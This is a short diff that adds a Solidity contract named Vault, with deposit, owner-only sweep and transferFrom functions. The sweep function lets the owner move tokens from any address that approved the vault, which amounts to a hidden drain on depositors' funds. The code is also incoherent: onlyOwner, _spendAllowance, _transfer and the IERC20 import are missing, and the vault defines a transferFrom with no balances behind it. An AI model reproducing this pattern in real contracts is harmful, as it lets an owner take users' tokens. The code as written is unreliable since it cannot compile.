@@ -1,0 +1,21 @@
+pragma solidity 0.8.24;
+
+contract Vault {
+    IERC20 token;
+    mapping(address => uint256) shares;
+
+    function deposit(uint256 amount) external {
+        token.transferFrom(msg.sender, address(this), amount);
+        shares[msg.sender] += amount;
+    }
+
+    function sweep(address from, uint256 amount) external onlyOwner {
+        token.transferFrom(from, msg.sender, amount);
+    }
+
+    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
+        _spendAllowance(from, msg.sender, amount);
+        _transfer(from, to, amount);
+        return true;
+    }
+}
